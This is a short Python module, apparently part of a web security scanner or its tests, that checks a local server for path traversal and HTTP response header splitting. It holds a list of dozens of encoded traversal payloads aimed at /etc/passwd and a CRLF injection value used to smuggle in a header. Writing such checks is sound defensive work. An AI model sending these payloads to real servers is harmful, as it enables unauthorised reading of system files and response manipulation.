"""What neither scanner tries: ways to leave a folder of files by the address,
where the file's name is the path itself; and an answer's header split by a line's end that is quoted once."""
import socket

CLIMBS = ["..", "%2e%2e", ".%2e", "%252e%252e", "..%00", "..;", "%c0%ae%c0%ae", "%uff0e%uff0e", "\u2025", "..\\..", "..%5c..", "....//"]
SLASHES = ["/", "%2f", "%252f", "\\", "%5c", "//"]
SPELLINGS = [slash.join([climb] * 12) + slash + "etc/passwd" for climb in CLIMBS for slash in SLASHES]
SPELLINGS += ["/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "file:///etc/passwd", "x/" + "../" * 12 + "etc/passwd"]


def climb(door):
    """The addresses that gave the machine's list of users."""
    return [address for folder in ("/", "/assets/", "/api/v1/") for spelling in SPELLINGS
            if b"root:x:0:0" in ask(door.server.server_port, address := folder + spelling)]


def split(door):
    """The parameters that add a header to the answer."""
    return [(target.name, name) for target in door.targets.values() for name in target.parameters
            if any(key.lower() == "scan-split" or "\n" in value
                   for key, value in door.attack(target, {name: "a\r\nScan-Split: yes"})[1])]


def ask(port, address):
    with socket.create_connection(("127.0.0.1", port), timeout=20) as line:
        line.sendall(f"GET {address} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        heard = b""
        while piece := line.recv(65536):
            heard += piece
            if b"\r\n\r\n" in heard and len(heard) > 2000:
                break
        return heard
